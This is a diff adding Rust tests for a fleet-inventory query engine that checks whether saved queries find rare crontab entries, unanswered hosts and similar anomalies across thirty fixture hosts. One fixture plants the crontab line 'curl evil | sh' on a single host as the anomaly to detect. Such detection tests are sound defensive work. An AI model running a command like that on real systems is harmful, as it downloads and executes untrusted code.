@@ -16,6 +16,7 @@ use parquet::arrow::ArrowWriter;
 use roaring::RoaringBitmap;
 
 use super::*;
+use crate::catalog::{ParamType, Queries};
 use crate::error::ErrorKind;
 use crate::model::SnapshotId;
 use crate::store::{FileEntry, FileKind};
@@ -268,13 +269,16 @@ async fn prevalence_is_one_table_and_one_for_each_table() {
     let sql =
         "select table_name, row, hosts, bitmap_to_list(members) l, fleet from prevalence order by hosts";
     let text = ask(&engine, sql).await;
-    assert!(text.contains(r#"| crontab    | {"command":"new","size":null}  | 1 "#), "{text}");
+    assert!(text.contains(r#"| crontab    | {"command":"new","size":null} "#), "{text}");
     assert!(text.contains(r#""username":"root""#) && text.contains("| [0, 1, 2] | web"), "{text}");
     let text = ask(&engine, "select command, hosts from prev.crontab where hosts > 1").await;
     assert!(text.contains("| rare    | 2     |"), "{text}");
     let text =
         ask(&engine, "explain format indent select hosts from prevalence where table_name = 'crontab'").await;
     assert!(text.contains("Prevalence/crontab") && !text.contains("Prevalence/users"), "{text}");
+    let sql = "explain format indent select fleet from prevalence where strict_id = id('000102030405060708090a0b0c0d0e0f')";
+    let text = ask(&engine, sql).await;
+    assert_eq!(text.matches("required_guarantees=[strict_id in").count(), 2, "{text}");
 }
 
 #[tokio::test]
@@ -339,4 +343,83 @@ async fn only_reading_is_allowed() {
     for sql in ["show tables", "describe crontab", "with a as (select 1 x) select x from a"] {
         ask(&engine, sql).await;
     }
+}
+
+#[tokio::test]
+async fn every_saved_query_runs_over_a_store_without_snapshots() {
+    let catalog = Catalog::builtin().unwrap();
+    let engine = Fixture::new().engine_over(&catalog);
+    let known = engine.table_names();
+    for query in Queries::builtin().unwrap().iter() {
+        for table in &query.tables {
+            assert!(known.contains(table), "{}: no table `{table}`", query.name);
+        }
+        let required = query.params.iter().filter(|param| param.default.is_none());
+        let given = |kind| if kind == ParamType::Text { "00".repeat(16) } else { "1".to_owned() };
+        let params = required.map(|param| (param.name.clone(), given(param.kind))).collect();
+        let bound = query.bind(&params).unwrap();
+        let rows = engine.ask(&bound).await.unwrap_or_else(|error| panic!("{}: {error}", query.name));
+        let rows: Vec<RecordBatch> =
+            rows.try_collect().await.unwrap_or_else(|error| panic!("{}: {error}", query.name));
+        assert_eq!(rows.iter().map(RecordBatch::num_rows).sum::<usize>(), 0, "{}", query.name);
+    }
+}
+
+/// Thirty hosts; one of them has a line of its own, and another did not answer.
+async fn answered_fleet() -> Fixture {
+    let mut fixture = Fixture::new();
+    fixture.snapshot("web", 5);
+    let all: Vec<u32> = (0..29).collect();
+    fixture.prevalence("crontab", "command", &[("usual", &all), ("curl evil | sh", &[7])]).await;
+    let names = || StringArray::from_iter_values((0..30).map(|n| format!("h{n}")));
+    let ordinals = UInt32Array::from_iter_values(0..30);
+    fixture
+        .file(FileKind::Hosts, None, vec![("ordinal", Arc::new(ordinals)), ("host", Arc::new(names()))])
+        .await;
+    let status = |n| if n == 29 { "timeout" } else { "ok" };
+    let columns: Vec<(&str, ArrayRef)> = vec![
+        ("host", Arc::new(names())),
+        ("table_name", Arc::new(StringArray::from(vec!["crontab"; 30]))),
+        ("status", Arc::new(StringArray::from_iter_values((0..30).map(status)))),
+        ("rows", Arc::new(Int64Array::from(vec![1; 30]))),
+        ("error", Arc::new(StringArray::from(vec![""; 30]))),
+    ];
+    fixture.file(FileKind::Coverage, None, columns).await;
+    fixture
+}
+
+#[tokio::test]
+async fn saved_queries_find_the_odd_host() {
+    let engine = answered_fleet().await.engine_over(&Catalog::builtin().unwrap());
+    let queries = Queries::builtin().unwrap();
+    let hex: String = id("curl evil | sh").iter().map(|byte| format!("{byte:02x}")).collect();
+    for (name, params, expected) in [
+        ("rare_rows", vec![], vec!["h7", "curl evil | sh", "| 1              | 29  "]),
+        ("rare_rows", vec![("table", "users")], vec![]),
+        ("rare_cron", vec![("fleet", "web")], vec!["h7", "curl evil | sh", "29"]),
+        ("rare_cron", vec![("fleet", "db")], vec![]),
+        ("rare_cron", vec![("max_hosts", "0")], vec![]),
+        ("row_on_hosts", vec![("strict_id", hex.as_str())], vec!["h7", "2026-01-05"]),
+        ("coverage_problems", vec![], vec!["h29", "timeout", "crontab"]),
+        ("hosts_overview", vec![], vec!["h0", "h29"]),
+        ("snapshots_of_fleet", vec![], vec!["web"]),
+    ] {
+        let params = params.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
+        let rows = engine.ask(&queries.get(name).unwrap().bind(&params).unwrap()).await.unwrap();
+        let text = pretty_format_batches(&rows.try_collect::<Vec<_>>().await.unwrap()).unwrap().to_string();
+        for expected in &expected {
+            assert!(text.contains(expected), "{name}: {text}");
+        }
+        assert!(!text.contains("usual"), "{name}: {text}");
+        assert_eq!(text.lines().count() > 4, !expected.is_empty(), "{name}: {text}");
+    }
+}
+
+#[tokio::test]
+async fn a_column_that_is_text_in_a_file_is_text() {
+    let mut fixture = fleets().await;
+    fixture.snapshot("web", 4);
+    fixture.crontab(&["odd"], Some(("size", "many"))).await;
+    let text = ask(&fixture.engine(), "select command, size from crontab order by size").await;
+    assert!(text.contains("| odd     | many |") && text.contains("| old     |      |"), "{text}");
 }
